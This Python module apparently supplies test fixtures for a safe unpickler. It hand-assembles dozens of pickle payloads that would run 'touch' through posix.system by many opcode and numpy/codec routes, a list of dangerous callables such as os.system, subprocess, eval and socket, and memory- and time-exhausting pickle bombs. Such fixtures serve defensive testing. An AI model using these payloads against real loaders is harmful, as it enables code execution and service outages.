"""Pickles that would run something, and pickles that would take all memory: written by hand, opcode by opcode."""

import bz2
import gzip
import lzma
import re
import struct
import zlib
from collections.abc import Mapping
from pathlib import Path

CALLED = re.findall(
    r"\S+",
    """
    posix.system os.system nt.system os.popen os.mkdir posix.mkdir os.makedirs os.remove os.execv os.spawnlp
    os.putenv subprocess.Popen subprocess.call subprocess.run subprocess.check_output subprocess.getoutput
    pty.spawn commands.getoutput builtins.eval builtins.exec builtins.compile builtins.open builtins.__import__
    builtins.getattr builtins.setattr builtins.map builtins.vars builtins.breakpoint __builtin__.eval
    __builtin__.execfile __builtin__.apply io.open _io.FileIO codecs.open importlib.import_module runpy.run_path
    runpy._run_code timeit.timeit timeit.main code.interact pdb.run bdb.Bdb cProfile.run profile.run trace.Trace
    doctest.debug_script shutil.rmtree shutil.copy tempfile.mkdtemp webbrowser.open urllib.request.urlopen
    http.client.HTTPConnection socket.create_connection ctypes.CDLL ctypes.string_at types.FunctionType
    types.CodeType marshal.loads pickle.loads _pickle.loads cloudpickle.loads dill.loads joblib.load torch.load
    pandas.read_pickle numpy.load numpy.fromfile numpy.memmap numpy.core.multiarray.fromfile
    numpy.testing._private.utils.runstring numpy.f2py.crackfortran.myeval logging.config.fileConfig asyncio.run
    threading.Thread multiprocessing.Process operator.attrgetter operator.methodcaller functools.partial
    functools.reduce copyreg._reconstructor copyreg.add_extension copyreg.__newobj__ atexit.register
    signal.raise_signal sys.settrace sys.exit gc.get_objects weakref.ref sqlite3.connect tarfile.open
    zipfile.ZipFile linecache.getlines pydoc.pipepager pip.main venv.create zipimport.zipimporter
    distutils.spawn.spawn idlelib.pyshell.main
    """,
)
"""What pickles have been made to call."""


def name(full: str) -> bytes:
    """Write a name as protocols 0 to 3 do."""
    module, _, attribute = full.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def text(content: str) -> bytes:
    """Write a text."""
    return b"X" + struct.pack("<I", len(content.encode())) + content.encode()


def stack_name(module: str, attribute: str) -> bytes:
    """Write a name as protocol 4 does."""
    return text(module) + text(attribute) + b"\x93"


RECONSTRUCT = name("numpy.core.multiarray._reconstruct") + b"(" + name("numpy.ndarray") + b"K\x00\x85C\x01btR"
OBJECTS = (
    name("numpy.dtype")
    + b"("
    + text("O8")
    + b"K\x00K\x01tR(K\x03"
    + text("|")
    + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
)


def payloads(target: Path) -> Mapping[str, bytes]:
    """Make pickles each of which would make the file `target`, or run something else, if it were opened carelessly."""
    command = text(f"touch {target}")
    run = name("posix.system") + command + b"\x85R"
    system = name("posix.system")
    imported = name("builtins.__import__") + text("posix") + b"\x85R"
    inner = b"B" + struct.pack("<I", len(run) + 1) + run + b"."
    ours = name("numpy.core.multiarray._reconstruct")
    structures = {
        "reduce": run + b".",
        "reduce with a frame": b"\x80\x04\x95" + struct.pack("<Q", len(run) + 1) + run + b".",
        "inst": b"(" + command + b"iposix\nsystem\n.",
        "obj": b"(" + system + command + b"o.",
        "newobj": system + command + b"\x85\x81.",
        "newobj_ex": system + command + b"\x85}\x92.",
        "stack name": stack_name("posix", "system") + command + b"\x85R.",
        "stack name from memory": text("posix") + b"\x94" + text("system") + b"\x94h\0h\1\x93" + command + b"\x85R.",
        "stack name with a path": stack_name("numpy", "core.multiarray.os.system") + command + b"\x85R.",
        "stack name through an attribute": stack_name("numpy", "ndarray.tofile") + command + b"\x85R.",
        "stack name through a class": stack_name("numpy", "ndarray.__class__.__subclasses__") + b")R.",
        "stack name through globals": stack_name("_codecs", "encode.__self__") + b".",
        "stack name of bytes": b"C\x05posixC\x06system\x93" + command + b"\x85R.",
        "stack name of a list": b"]]\x93.",
        "name with another letter": "c\u043es\nsystem\n".encode() + command + b"\x85R.",
        "name with a carriage return": b"cposix\r\nsystem\r\n" + command + b"\x85R.",
        "name without module": b"c\nsystem\n" + command + b"\x85R.",
        "getattr chain": name("builtins.getattr") + imported + text("system") + b"\x86R" + command + b"\x85R.",
        "in a list": b"](" + run + b"e.",
        "in a tuple": run + b"\x85.",
        "in a dict": b"}" + text("a") + run + b"s.",
        "as a key": b"}" + run + b"Ns.",
        "in an array": RECONSTRUCT + b"(K\x01K\x01\x85" + OBJECTS + b"I00\n](" + run + b"etb.",
        "as a shape": ours + b"(" + name("numpy.ndarray") + run + b"C\x01btR.",
        "as a kind of array": ours + b"(" + system + b"K\x00\x85C\x01btR.",
        "as a dtype": name("numpy.dtype") + run + b"\x85R.",
        "as what is encoded": name("_codecs.encode") + run + text("latin1") + b"\x86R.",
        "through a codec": name("_codecs.encode") + text("x") + text("unicode_escape") + b"\x86R.",
        "through a scalar": name("numpy.core.multiarray.scalar") + OBJECTS + run + b"\x86R.",
        "pickled in a scalar": name("numpy.core.multiarray.scalar") + OBJECTS + inner + b"\x86R.",
        "pickled in a pickle": name("_pickle.loads") + inner + b"\x85R.",
        "popped before the end": run + b"0N.",
        "popped to a mark": b"(" + run + b"1N.",
        "doubled": system + b"2" + command + b"\x85R.",
        "after another pickle's start": b"\x80\x02N0\x80\x04" + run + b".",
        "called from memory": system + b"q\x000" + b"h\x00" + command + b"\x85R.",
        "memory far away": system + b"r\xff\xff\xff\x7f" + command + b"\x85R.",
        "memory taken over": b"Nq\x000" + system + b"q\x00" + command + b"\x85R.",
        "built with a state method": b"c__main__\nX\n)\x81}" + text("__setstate__") + system + b"sb" + command + b"b.",
        "built on a name of ours": ours + b"}" + text("__code__") + run + b"sb.",
        "built on slots of ours": ours + b"N}" + text("__defaults__") + b"Ns\x86b.",
        "built on a class": name("numpy.ndarray") + b"}" + text("x") + b"Nsb.",
        "built on a dtype twice": OBJECTS + b"(K\x03tb.",
        "built on a list": b"]}" + text("append") + system + b"sb.",
        "called on a class": name("numpy.ndarray") + b"K\x05\x85\x85R.",
        "called on a text": command + b")R.",
        "called on an array": RECONSTRUCT + b")R.",
        "called with a list": ours + b"]R.",
        "extension 1": b"\x82\x01.",
        "extension 2": b"\x83\x01\x00.",
        "extension 4": b"\x84\x01\x00\x00\x00.",
        "persistent id": b"Pposix.system\n.",
        "binary persistent id": command + b"Q.",
        "buffer from elsewhere": b"\x80\x05\x97.",
        "buffer made read-only": b"\x80\x05C\x01a\x98.",
        "memmap as an array": ours + b"(" + name("numpy.memmap") + b"K\x00\x85C\x01btR.",
        "raw pointers": name("numpy.core.numeric._frombuffer") + b"(C\x08AAAAAAAA" + OBJECTS + b"K\1\x85X\1\0\0\0CtR.",
        "a stand-in as data": RECONSTRUCT + b".",
        "a dtype as data": OBJECTS + b".",
        "a name as data": ours + b".",
        "gzip": gzip.compress(run + b"."),
        "bzip2": bz2.compress(run + b"."),
        "xz": lzma.compress(run + b"."),
        "zlib": zlib.compress(run + b"."),
    }  # fmt: skip
    return structures | {f"calls {full}": name(full) + command + b"\x85R." for full in CALLED}


def bombs() -> Mapping[str, bytes]:
    """Make small pickles that would take very much memory or time."""
    big = b"\x8e" + struct.pack("<Q", 2**20) + b"a" * 2**20  # a megabyte of bytes
    wide = text("a" * 2**20)
    doubling = b"".join(b"](h" + bytes([n]) + b"h" + bytes([n]) + b"eq" + bytes([n + 1]) for n in range(40))
    tuples = b"".join(b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) for n in range(40))
    encode = name("_codecs.encode") + b"q\x00" + wide + b"q\x01" + text("latin1") + b"q\x02\x87q\x03"
    many = b"N" * 10**5
    zeros = b"G" + bytes(8)
    return {
        "lists of lists": b"(]q\x00" + doubling + b"l.",
        "tuples of tuples": b"()q\x00" + tuples + b"t.",
        "tuples as a key": b"})q\x00" + tuples + b"Ns.",
        "one list a million times": b"(](" + b"N" * 1000 + b"eq\x00" + b"h\x00" * 10**6 + b"l.",
        "one list in many places, and then filled": b"]q\x00(" + b"h\x00" * 10**5 + b"lh\x00(" + many + b"e\x86.",
        "a list in itself": b"]q\x00h\x00a.",
        "one text a million times": b"(" + wide + b"q\x00" + b"h\x00" * 10**6 + b"l.",
        "bytes encoded again and again": encode + b"(" + b"h\x00h\x01h\x02\x86R" * 10**5 + b"l.",
        "one array a hundred thousand times": b"(" + big + b"q\x00" + b"h\x00" * 10**5 + b"l.",
        "nothing, 5 million times": b"(" + b"N" * (5 * 2**20) + b"l.",
        "small numbers, 3 million times": b"(" + b"K\x01" * (3 * 2**20) + b"l.",
        "empty lists, 4 million": b"(" + b"]" * (4 * 2**20) + b"l.",
        "empty tuples, 4 million": b"(" + b")" * (4 * 2**20) + b"l.",
        "lists in lists, a million deep": b"]" * 10**6 + b"a" * (10**6 - 1) + b".",
        "tuples in tuples, a million deep": b")" + b"\x85" * 10**6 + b".",
        "marks, 4 million": b"(" * 4 * 10**6 + b".",
        "memory, 3 million": b"N" + b"\x94" * 3 * 10**6 + b".",
        "memory far away": b"Nr\xff\xff\xff\x7f.",
        "floats remembered": b"(" + (zeros + b"\x94") * 2**19 + b"l.",
        "floats used again": zeros + b"q\x00" + b"](" + b"h\x00" * (3 * 2**20) + b"e\x86.",
        "floats, 3 million, in one batch": b"](" + zeros * (3 * 2**20) + b"e.",
        "names, 2 million": b"](" + b"\x8c\x01a\x94" * (2 * 2**20) + b"e.",
        "a long text of wide letters": text("a" * (20 * 2**20) + "\U0001f457") + b".",
        "a long line of wide letters": b"V" + b"a" * (20 * 2**20) + b"\\U0001f457\n.",
        "a long text in quotes": b"S'" + b"a" * (20 * 2**20) + b"\\n'\nN.",
        "a long text of escapes": b"S'" + b"\\n" * (10 * 2**20) + b"'\nN.",
        "a long line without end": b"V" + b"a" * (20 * 2**20),
        "a long number": b"I" + b"9" * 10**6 + b"\n.",
        "a long float": b"F" + b"9" * 10**7 + b"\n.",
        "a long binary number": b"\x8b" + struct.pack("<i", 10**6) + b"\xff" * 10**6 + b".",
        "a longer binary number than there is": b"\x8b\xff\xff\xff\x7f.",
        **{
            f"{code.hex()} of {length} bytes": code + struct.pack(form, length) + b"a."
            for form, codes in (("<I", b"XTB"), ("<Q", b"\x8d\x8e\x96\x95"))
            for code in (codes[at : at + 1] for at in range(len(codes)))
            for length in (2**31 - 1, 2**32 - 1, *((2**62, 2**63, 2**64 - 1) if form == "<Q" else ()))
        },
        "a large shape": RECONSTRUCT + b"(K\x01J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86" + OBJECTS + b"I00\n]tb.",
        "a long text dtype": name("numpy.dtype") + b"(" + text("U2147483647") + b"K\x00K\x01tR.",
    }  # fmt: skip
